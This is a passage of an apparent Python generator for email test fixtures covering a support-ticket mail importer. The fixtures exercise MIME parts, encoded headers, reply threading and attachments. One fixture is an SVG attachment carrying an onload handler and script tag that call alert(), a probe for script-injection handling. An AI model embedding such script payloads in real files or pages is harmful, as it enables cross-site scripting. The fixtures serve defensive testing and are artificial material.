Content-Type: multipart/alternative; boundary="ALT"

--ALT
Content-Type: text/plain; charset=UTF-8; format=flowed

See the photos. The box was wet.
--ALT
Content-Type: multipart/related; boundary="REL"

--REL
Content-Type: text/html; charset=UTF-8

<p>See the photos. The box was <b>wet</b>.</p><img src="cid:part1.wet@example.net">
--REL
Content-Type: image/png; name="wet.png"
Content-ID: <part1.wet@example.net>
Content-Disposition: inline; filename="wet.png"
Content-Transfer-Encoding: base64

{b64(PNG)}
--REL--
--ALT--
--OUTER
Content-Type: application/pdf; name="delivery-note.pdf"
Content-Disposition: attachment; filename="delivery-note.pdf"
Content-Transfer-Encoding: base64

{b64(PDF)}
--OUTER--
""", expect="new", attachments=["wet.png", "delivery-note.pdf"], body_contains="The box was wet", html_contains="/wet.png?inline=1")

add("061-raw-utf8-headers.eml", f"""From: Łukasz Żak <lukasz@poczta.example.pl>
To: {SUPPORT}
Subject: Pytanie o zwrot — ważne
Message-ID: <raw8.061@poczta.example.pl>
Content-Type: text/plain; charset=utf-8

Treść wiadomości.
""", expect="new", subject="Pytanie o zwrot — ważne", requester_name="Łukasz Żak")

add("062-reply-all-from-cc-in-reply-to.eml", f"""From: Boss <boss@yandex.example>
To: Olga <olga@yandex.example>, {SUPPORT}
Subject: Re: Нет инструкции
Message-ID: <boss.062@yandex.example>
In-Reply-To: <koi8.003@yandex.example>
Content-Type: text/plain; charset=utf-8

Please send the manual to both of us.
""", expect="threaded", threaded_to="003-koi8r-body.eml", rule="message_id")

add("063-gmail-html-reply-with-quote.eml", f"""MIME-Version: 1.0
References: <CAHk7abc+gmail.014@mail.gmail.com>
In-Reply-To: <CAHk7abc+gmail.014@mail.gmail.com>
From: Lena Fischer <lena.fischer@gmail.example>
Date: Wed, 6 Mar 2024 09:01:22 +0100
Message-ID: <CAHk7abc+gmail.063@mail.gmail.com>
Subject: Re: Discount code does not work
To: {SUPPORT}
Content-Type: multipart/alternative; boundary="0000000000063"

--0000000000063
Content-Type: text/plain; charset="UTF-8"

Here is a screenshot link.

--0000000000063
Content-Type: text/html; charset="UTF-8"

<div dir="ltr">Here is a screenshot <img src="https://lh3.googleusercontent.example/shot.png"></div><div class="gmail_quote"><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex">Hi, the code SPRING24</blockquote></div>

--0000000000063--
""", expect="threaded", threaded_to="014-gmail-new.eml", html_contains="data-remote-src=\"https://lh3.googleusercontent.example/shot.png\"",
    html_lacks=["style="])

add("064-calendar-invite.eml", f"""From: Partner <partner@biz.example>
To: {SUPPORT}
Subject: Invitation: call about the wholesale price
Message-ID: <cal.064@biz.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="CAL"

--CAL
Content-Type: text/plain; charset=utf-8

Let's talk on Friday.
--CAL
Content-Type: text/calendar; method=REQUEST; charset=utf-8; name="invite.ics"
Content-Disposition: attachment; filename="invite.ics"

BEGIN:VCALENDAR
VERSION:2.0
BEGIN:VEVENT
SUMMARY:Wholesale price
END:VEVENT
END:VCALENDAR
--CAL--
""", expect="new", attachments=["invite.ics"])

add("065-svg-attachment.eml", f"""From: Designer <designer@example.com>
To: {SUPPORT}
Subject: Logo proposal
Message-ID: <svg.065@example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="S"

--S
Content-Type: text/html; charset=utf-8

<p>Logo attached</p><img src="cid:logo.svg@example.com">
--S
Content-Type: image/svg+xml; name="logo.svg"
Content-ID: <logo.svg@example.com>
Content-Disposition: attachment; filename="logo.svg"

<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>
--S--
""", expect="new", attachments=["logo.svg"])

add("066-polish-reply.eml", f"""From: Zofia <zofia@poczta.example.pl>
To: {SUPPORT}
Subject: Re: Zamówienie
Message-ID: <ew.066@poczta.example.pl>
In-Reply-To: <ew.006@poczta.example.pl>
Content-Type: text/plain; charset=utf-8

Dziękuję, wszystko działa.
""", expect="threaded", threaded_to="006-encoded-words-mixed.eml")

os.makedirs(HERE, exist_ok=True)
for name, raw in files.items():
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(raw)


def toml_value(v):
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, int):
        return str(v)
    if isinstance(v, list):
        return "[" + ", ".join(toml_value(x) for x in v) + "]"
    s = str(v).replace("\\", "\\\\").replace('"', '\\"')
    return f'"{s}"'


with open(os.path.join(HERE, "expected.toml"), "w", encoding="utf-8") as f:
    f.write("# Generated by generate.py: every message of this folder, in the order the corpus test feeds\n")
    f.write("# them, with what must happen. expect = new | threaded | ignored | refused.\n")
    f.write(f'secret = "{SECRET.decode()}"\nour_host = "{OUR_HOST}"\nour_address = "{SUPPORT}"\n')
    for name, exp in entries:
        f.write("\n[[step]]\n")
        if name:
            f.write(f'file = "{name}"\n')
        for k, v in exp.items():
            f.write(f"{k} = {toml_value(v)}\n")
print(f"{len(files)} messages written")
